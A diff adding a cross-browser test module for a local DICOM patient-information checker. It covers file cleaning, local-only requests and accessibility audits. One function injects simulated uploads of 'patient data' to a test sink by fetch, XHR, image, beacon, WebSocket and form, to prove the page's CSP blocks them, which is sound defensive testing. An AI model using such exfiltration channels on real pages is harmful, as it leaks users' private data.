@@ -1,0 +1,273 @@
+// The user's flows through the page, written once against the engine-neutral session
+// (engines/common.mjs) and run in Chromium, Firefox and WebKit by engines.test.mjs.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import path from 'node:path';
+import { unzipSync } from 'fflate';
+import { assertNoPatientInfo } from './helpers.mjs';
+import { textOf, waitFor, waitForDownload } from './engines/common.mjs';
+
+const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+
+// Opens the page and waits for its checker (the workers and the module) to be ready.
+export async function openChecker(session, url) {
+  await session.goto(url);
+  await waitFor(session, () => document.body.dataset.ready, null, { what: 'the checker to start' });
+  const ready = await session.evaluate(() => document.body.dataset.ready);
+  assert.equal(ready, 'true', `${session.engine}: the checker did not start: ${await textOf(session, '#status')}`);
+}
+
+// Waits until `n` files are listed and nothing is being checked; returns each row's
+// {path: {status, text}}.
+export async function waitForFiles(session, n, timeout = 60000) {
+  await waitFor(
+    session,
+    (n) => {
+      const list = document.getElementById('file-list');
+      const counts = JSON.parse(list.dataset.counts || '{}');
+      return Number(list.dataset.total) === n && !document.body.classList.contains('busy') && !counts.queued;
+    },
+    n,
+    { timeout, what: `${n} files checked` },
+  );
+  return session.evaluate(() =>
+    Object.fromEntries([...document.querySelectorAll('#file-list .file-row')].map((r) => [r.querySelector('.file-name').textContent, { status: r.dataset.status, text: r.textContent }])),
+  );
+}
+
+// A request the driver reports as blocked by the Content-Security-Policy before it was sent.
+export const blockedByCsp = (r) => /^csp$|BLOCKED_BY_CSP|Content[- ]Security[- ]Policy/i.test(r.failure || '');
+
+// Requests the driver saw (when it reports them) stayed on the page's own origin, or on disk
+// for a page opened from disk, and none carried a body; a request elsewhere is allowed only
+// when the driver says CSP blocked it. `proxy`: the served page's requests as its server saw
+// them, since the session started (proxySince).
+export function assertOnlyLocalRequests(session, pageUrl, proxy, proxySince = 0) {
+  const served = proxy ? proxy.requests.slice(proxySince) : [];
+  const page = new URL(pageUrl);
+  for (const r of session.requests || []) {
+    if (blockedByCsp(r)) continue;
+    const u = new URL(r.url);
+    const local = ['blob:', 'data:'].includes(u.protocol) || (page.protocol === 'file:' ? u.protocol === 'file:' : u.origin === page.origin);
+    assert.ok(local, `${session.engine}: a request left the page: ${r.method} ${r.url} (${r.failure || 'not failed'})`);
+    assert.equal(r.method, 'GET', `${session.engine}: ${r.method} ${r.url}`);
+    assert.ok(!r.hasBody, `${session.engine}: a request with a body: ${r.url}`);
+  }
+  if (page.protocol !== 'file:') {
+    assert.ok(
+      (session.requests || served).some((r) => r.url.endsWith('.wasm')),
+      `${session.engine}: the module was fetched from the page's own origin (recording works)`,
+    );
+  }
+  for (const r of served) {
+    assert.ok(['GET', 'HEAD'].includes(r.method) && r.bodyBytes === 0, `${session.engine}: the server got ${r.method} ${r.url} with ${r.bodyBytes} bytes`);
+  }
+}
+
+async function violations(session) {
+  return (await session.evaluate(() => window.__violations)) || [];
+}
+
+// No console error and no CSP violation at all. (From disk, where WebKit's driver reports no
+// requests, the violations are the evidence: any request but blob: and data: breaks that
+// page's policy.)
+async function assertNoErrors(session) {
+  assert.deepEqual(await session.consoleErrors(), [], `${session.engine}: console errors`);
+  assert.deepEqual(await violations(session), [], `${session.engine}: CSP violations`);
+}
+
+// Picks the held-out files and both built-in samples, sees each patient's name, downloads the
+// cleaned zip and checks every file in it. `files` (picked) and `samples` (the buttons):
+// [{path, name, identifying}], name being the patient's name as the page shows it and
+// identifying the values that must not survive cleaning; `bytesFrom`: 'page' when the workers
+// must be getting the bytes from the page.
+export async function heldOutFlow(session, { url, files, samples, proxy, shots, bytesFrom }) {
+  const t0 = Date.now();
+  const proxySince = proxy ? proxy.requests.length : 0;
+  await openChecker(session, url);
+  if (bytesFrom) assert.equal(await session.evaluate(() => document.body.dataset.bytesFrom), bytesFrom, `${session.engine}: who reads the files`);
+  await session.setFiles('#pick-files', files.map((f) => f.path));
+  await waitForFiles(session, files.length);
+  await session.click('#sample-btn');
+  await waitForFiles(session, files.length + 1);
+  await session.click('#sample-us-btn');
+  const rows = await waitForFiles(session, files.length + 2);
+  const checkedMs = Date.now() - t0;
+  const all = [...files, ...samples];
+  for (const f of all) {
+    const row = rows[path.basename(f.path)];
+    assert.ok(row, `${session.engine}: ${f.path} is listed (rows: ${Object.keys(rows).join(', ')})`);
+    assert.equal(row.status, 'leaks', `${session.engine}: ${f.path}: verdict`);
+    assert.ok(row.text.includes(f.name), `${session.engine}: ${f.path}: the patient's name "${f.name}" is shown: ${row.text}`);
+  }
+  const overview = await textOf(session, '[data-testid=overview]');
+  assert.match(overview, new RegExp(`Patient information found in ${all.length} of ${all.length} files`), `${session.engine}: overview`);
+  await session.screenshot(shots('held-out-files'));
+
+  const t1 = Date.now();
+  await session.click('#clean-btn');
+  const zip = unzipSync(await waitForDownload(session, 'dicom-leakcheck-cleaned.zip'));
+  const cleanedMs = Date.now() - t1;
+  await waitFor(session, () => /cleaned files saved in dicom-leakcheck-cleaned\.zip/.test(document.getElementById('status').textContent), null, { what: 'the message that the zip was saved' });
+  assert.match(await textOf(session, '#status'), new RegExp(`^${all.length} cleaned files saved`), `${session.engine}: the page says what it saved`);
+  const names = Object.keys(zip).sort();
+  assert.deepEqual(names, all.map((f) => `dicom-leakcheck-cleaned/${path.basename(f.path)}`).sort(), `${session.engine}: the zip holds every file once`);
+  let checkedWith = null;
+  for (const f of all) {
+    const bytes = zip[`dicom-leakcheck-cleaned/${path.basename(f.path)}`];
+    const text = Buffer.from(bytes).toString('latin1');
+    const left = f.identifying.filter((v) => text.includes(v));
+    assert.deepEqual(left, [], `${session.engine}: ${f.path}: identifying values left after cleaning`);
+    checkedWith = await assertNoPatientInfo(bytes, `${session.engine}: ${f.path} cleaned`);
+  }
+  await session.screenshot(shots('cleaned'));
+  assertOnlyLocalRequests(session, url, proxy, proxySince);
+  await assertNoErrors(session);
+  return { files: all.length, checkedMs, cleanedMs, checkedWith };
+}
+
+// Attempts to send something to another origin (the sink) from the page, in every way a
+// script could: fetch, XMLHttpRequest, an image, a beacon, a WebSocket and a form.
+async function attemptUploads(sink) {
+  const out = {};
+  try {
+    await fetch(`${sink}/page-fetch`, { method: 'POST', body: 'patient data', mode: 'no-cors' });
+    out.fetch = 'sent';
+  } catch (e) {
+    out.fetch = `blocked: ${e.message}`;
+  }
+  out.xhr = await new Promise((resolve) => {
+    try {
+      const xhr = new XMLHttpRequest();
+      xhr.open('POST', `${sink}/page-xhr`);
+      xhr.onload = () => resolve('sent');
+      xhr.onerror = () => resolve('blocked: error event');
+      xhr.send('patient data');
+    } catch (e) {
+      resolve(`blocked: ${e.message}`);
+    }
+  });
+  out.image = await new Promise((resolve) => {
+    const img = new Image();
+    img.onload = () => resolve('sent');
+    img.onerror = () => resolve('blocked: error event');
+    img.src = `${sink}/page-image?patient=data`;
+  });
+  try {
+    // true only says it was queued: the CSP check comes after (violation event, sink).
+    out.beacon = navigator.sendBeacon(`${sink}/page-beacon`, 'patient data') ? 'queued' : 'refused';
+  } catch (e) {
+    out.beacon = `blocked: ${e.message}`;
+  }
+  out.websocket = await new Promise((resolve) => {
+    try {
+      const ws = new WebSocket(`${sink.replace(/^http/, 'ws')}/page-websocket`);
+      ws.onopen = () => resolve('sent');
+      ws.onerror = () => resolve('blocked: error event');
+    } catch (e) {
+      resolve(`blocked: ${e.message}`);
+    }
+  });
+  // Violation events are queued as tasks: let them arrive.
+  await new Promise((resolve) => setTimeout(resolve, 300));
+  return out;
+}
+
+// CSP blocks every injected attempt at an upload, from the page and from its worker: a
+// violation is reported for each kind, nothing reaches the sink and no driver sees a request.
+export async function uploadBlockedFlow(session, { url, sink, proxy, shots }) {
+  const proxySince = proxy ? proxy.requests.length : 0;
+  const page = new URL(url);
+  page.searchParams.set('test-hooks', '');
+  await openChecker(session, page.href);
+  await session.click('#sample-btn');
+  await waitForFiles(session, 1);
+  const fromPage = await session.evaluate(attemptUploads, sink.origin);
+  for (const kind of ['fetch', 'xhr', 'image', 'websocket']) {
+    assert.match(fromPage[kind], /^blocked/, `${session.engine}: ${kind} from the page was not blocked`);
+  }
+  const fromWorker = await session.evaluate((sink) => window.leakcheckTestHooks.tryUploadFromWorker(sink), sink.origin);
+  for (const kind of ['fetch', 'xhr']) {
+    assert.match(fromWorker.outcome[kind], /^blocked/, `${session.engine}: ${kind} from the worker was not blocked`);
+  }
+  // A form is sent last: were it not blocked, the page would be gone.
+  const before = await session.evaluate(() => location.href);
+  fromPage.form = await session.evaluate((sink) => {
+    const form = document.createElement('form');
+    form.method = 'post';
+    form.action = `${sink}/page-form`;
+    const input = document.createElement('input');
+    input.name = 'patient';
+    input.value = 'data';
+    form.append(input);
+    document.body.append(form);
+    try {
+      form.submit();
+      return 'submitted (the page stays only if CSP blocked it)';
+    } catch (e) {
+      // Firefox throws when form-action forbids the submission.
+      return `blocked: ${String(e.message || e.name || e).slice(0, 60)}`;
+    }
+  }, sink.origin);
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  assert.equal(await session.evaluate(() => location.href), before, `${session.engine}: the form did not take the page away`);
+
+  const seen = await violations(session);
+  const sinkHost = new URL(sink.origin).host;
+  const blockedBy = new Set(seen.filter((v) => v.blockedURI.includes(sinkHost)).map((v) => v.directive));
+  for (const directive of ['connect-src', 'img-src', 'form-action']) {
+    assert.ok(blockedBy.has(directive), `${session.engine}: no ${directive} violation for the sink: ${JSON.stringify(seen)}`);
+  }
+  const others = seen.filter((v) => !v.blockedURI.includes(sinkHost));
+  assert.deepEqual(others, [], `${session.engine}: other CSP violations`);
+  assert.deepEqual(sink.hits, [], `${session.engine}: requests reached the other origin`);
+  const toSink = (session.requests || []).filter((r) => r.url.includes(sinkHost));
+  for (const r of toSink) assert.ok(blockedByCsp(r), `${session.engine}: the driver saw a request to the other origin that CSP did not block: ${r.url} (${r.failure || 'not failed'})`);
+  assertOnlyLocalRequests(session, url, proxy, proxySince);
+  const errors = (await session.consoleErrors()).filter((e) => !(e.includes(sinkHost) || /Content[- ]Security[- ]Policy/i.test(e)));
+  assert.deepEqual(errors, [], `${session.engine}: console errors other than the blocked attempts`);
+  await session.screenshot(shots('upload-blocked'));
+  return { fromPage, fromWorker: fromWorker.outcome, directives: [...blockedBy].sort(), workerViolations: fromWorker.violations.length, driverSawBlocked: toSink.map((r) => `${r.method} ${new URL(r.url).pathname}: ${r.failure}`) };
+}
+
+async function axeViolations(session) {
+  if (!(await session.evaluate(() => typeof window.axe === 'object'))) await session.evaluate(axeSource);
+  const results = await session.evaluate(async () => {
+    const r = await window.axe.run(document, { resultTypes: ['violations'] });
+    return r.violations.map((v) => ({ id: v.id, impact: v.impact, help: v.help, nodes: v.nodes.map((n) => `${n.target.join(' ')}: ${n.failureSummary}`) }));
+  });
+  return results;
+}
+
+// The axe-core audit of the start page and of the sample's card with its element table open,
+// at desktop and phone widths, in the session's colour scheme. Returns the widths audited.
+export async function axeFlow(session, { url, colorScheme, shots }) {
+  const widths = [];
+  for (const [label, viewport] of [
+    ['desktop', { width: 1280, height: 900 }],
+    ['phone', { width: 390, height: 844 }],
+  ]) {
+    await session.setViewport(viewport);
+    await openChecker(session, url);
+    // (WebKitGTK's MiniBrowser cannot be made narrower than about 450 px: still the phone
+    // layout, which is what matters here.)
+    const seen = await session.evaluate(() => ({ width: innerWidth, phone: matchMedia('(max-width: 40rem)').matches, dark: matchMedia('(prefers-color-scheme: dark)').matches }));
+    assert.equal(seen.dark, colorScheme === 'dark', `${session.engine}: the page sees the ${colorScheme} scheme`);
+    assert.equal(seen.phone, label === 'phone', `${session.engine}: ${label} layout at ${seen.width} px`);
+    assert.deepEqual(await axeViolations(session), [], `${session.engine}, ${colorScheme}, ${label}: axe violations on the start page`);
+    await session.click('#sample-btn');
+    await waitForFiles(session, 1);
+    await waitFor(session, () => Boolean(document.querySelector('#detail [data-testid=element-table]')), null, { what: "the sample's card" });
+    await session.evaluate(() => {
+      document.querySelector('#detail [data-testid=element-table]').open = true;
+    });
+    assert.deepEqual(await axeViolations(session), [], `${session.engine}, ${colorScheme}, ${label}: axe violations on the sample's card`);
+    const overflow = await session.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+    assert.ok(overflow <= 0, `${session.engine}, ${label}: no sideways scrolling (${overflow} px too wide)`);
+    await session.screenshot(shots(`axe-${colorScheme}-${label}`));
+    widths.push(seen.width);
+  }
+  await assertNoErrors(session);
+  return widths;
+}
